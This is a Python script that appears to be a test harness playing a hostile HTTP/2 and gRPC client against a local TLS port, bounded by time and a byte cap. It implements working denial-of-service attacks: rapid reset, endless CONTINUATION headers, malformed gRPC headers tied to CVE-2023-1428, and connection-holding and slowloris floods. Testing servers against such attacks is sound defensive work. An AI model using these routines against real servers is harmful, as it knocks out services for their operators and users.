#!/usr/bin/env -S python3 -B
"""attack.py KIND PORT SOURCE SECONDS [CERTIFICATE KEY]: what a hostile peer does to a TLS port of
this machine, from the loopback address SOURCE, for so long, with the certificate of these files if
it has one; then a line of JSON that says how far it came.

KIND: rapid-reset      opens HTTP/2 streams and resets each at once, as fast as it can
      endless-header   one header that never ends, in CONTINUATION frames
      large-header     the same, in frames of the largest size
      wrong-headers    requests whose headers are more than gRPC takes, each with another one that has
                       a value that HTTP/2 or gRPC does not know (RFC 9113, 8.2.2)
      idle             500 connections through the handshake that then say nothing
      silent           500 connections that never begin the handshake
      slow             40 connections that send HTTP/2's preface a byte every 100 ms

Whoever is cut off connects again. Bounded: SECONDS, and MOST_BYTES of what it sends.
"""

import json
import socket
import ssl
import struct
import sys
import time

MOST_BYTES = 256 << 20
CROWD = 500
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, RST_STREAM, CONTINUATION = 4, 1, 3, 9


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """A string literal of HPACK, without Huffman's code (RFC 7541, 5.2)."""
    return bytes([len(value)]) + value


# POST, https, then the path and the rest as literals that nobody indexes.
REQUEST = (b"\x83\x87" + b"\x04" + text(b"/spoke.v1.EnrollService/Enroll") + b"\x01" + text(b"a") +
           b"\x0f\x10" + text(b"application/grpc") + b"\x00" + text(b"te") + text(b"trailers"))


class Peer:
    """One connection after the other, from one address."""

    def __init__(self, port, source, identity):
        self.port, self.source = port, source
        self.connected = self.refused = self.cut = self.sent = self.done = 0
        self.most = self.of_this = 0  # The most that one connection has sent, and the present one.
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.context.check_hostname = False
        self.context.verify_mode = ssl.CERT_NONE
        self.context.set_alpn_protocols(["h2"])
        if identity:
            self.context.load_cert_chain(*identity)

    def connect(self):
        plain = socket.create_connection(("127.0.0.1", self.port), 2, (self.source, 0))
        # What it has sent is what has arrived, but for this.
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 << 10)
        self.connected += 1
        self.of_this = 0
        return plain

    def secure(self):
        return self.context.wrap_socket(self.connect())

    def greet(self):
        tls = self.secure()
        self.send(tls, PREFACE + frame(SETTINGS, 0, 0))
        return tls

    def send(self, to, data):
        if self.sent > MOST_BYTES:
            raise TimeoutError("enough")
        to.sendall(data)
        self.sent += len(data)
        self.of_this += len(data)
        self.most = max(self.most, self.of_this)


def rapid_reset(peer, until):
    tls = peer.greet()
    stream = 1
    while time.monotonic() < until:
        batch = bytearray()
        for _ in range(64):
            batch += frame(HEADERS, 4, stream, REQUEST) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
            stream += 2
        peer.send(tls, bytes(batch))
        peer.done += 64


def endless_header(peer, until, size=4096):
    tls = peer.greet()
    # A value of 2^28 bytes and more, of which each frame brings some.
    peer.send(tls, frame(HEADERS, 0, 1, REQUEST + b"\x00" + text(b"x") + b"\x7f\xff\xff\xff\x7f"))
    piece = frame(CONTINUATION, 0, 1, b"y" * size)
    while time.monotonic() < until:
        peer.send(tls, piece)
        peer.done += 1


def wrong_headers(peer, until):
    """Errors are made of what was wrong (CVE-2023-1428): the receiver must outlive that."""
    wrong = ((b"te", b"x"), (b":scheme", b"x"), (b"grpclb_client_stats", b"x"), (b":method", b"x"),
             (b":status", b"x"), (b"content-type", b"x"), (b"grpc-timeout", b"x"), (b"grpc-status", b"x"),
             (b"grpc-previous-rpc-attempts", b"x"), (b"grpc-retry-pushback-ms", b"x"),
             (b"grpc-encoding", b"x"), (b"grpc-accept-encoding", b"x"), (b"grpc-tags-bin", b"x"),
             (b"grpc-trace-bin", b"x"), (b"endpoint-load-metrics-bin", b"x"))
    while time.monotonic() < until:
        for name, value in wrong:
            tls = peer.greet()
            tls.settimeout(0.1)
            block = REQUEST + b"\x00" + text(name) + text(value)
            for i in range(100):
                block += b"\x00" + text(b"x%d" % i) + text(b"y" * 120)
            peer.send(tls, frame(HEADERS, 4, 1, block))
            try:
                while tls.recv(4096):
                    pass
            except OSError:
                peer.cut += 1
            peer.done += 1


def slow(peer, until):
    crowd = []
    while True:
        for byte in PREFACE:
            if time.monotonic() >= until:
                return
            crowd = [tls for tls in crowd if still_takes(peer, tls, byte)]
            while len(crowd) < 40:
                try:
                    crowd.append(peer.secure())
                except OSError:
                    peer.refused += 1
                    break
            time.sleep(0.1)


def still_takes(peer, tls, byte):
    try:
        peer.send(tls, bytes([byte]))
    except OSError:
        peer.cut += 1
        return False
    peer.done += 1
    return True


def hold(open_one, peer, until):
    crowd = []
    while len(crowd) < CROWD and time.monotonic() < until:
        try:
            crowd.append(open_one())
        except OSError:
            peer.refused += 1
            time.sleep(0.002)
    peer.done = len(crowd)
    time.sleep(max(0.0, until - time.monotonic()))


def main():
    kind, port, source, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    peer = Peer(port, source, sys.argv[5:7])
    until = time.monotonic() + seconds
    attack = {"rapid-reset": rapid_reset, "endless-header": endless_header, "slow": slow,
              "large-header": lambda p, u: endless_header(p, u, 16384), "wrong-headers": wrong_headers,
              "idle": lambda p, u: hold(p.greet, p, u),
              "silent": lambda p, u: hold(p.connect, p, u)}[kind]
    while time.monotonic() < until and peer.sent <= MOST_BYTES:
        try:
            attack(peer, until)
        except OSError:
            peer.cut += 1
            time.sleep(0.005)
    print(json.dumps({"connected": peer.connected, "refused": peer.refused, "cut": peer.cut,
                      "sent_bytes": peer.sent, "most_of_one": peer.most, "done": peer.done}))


main()
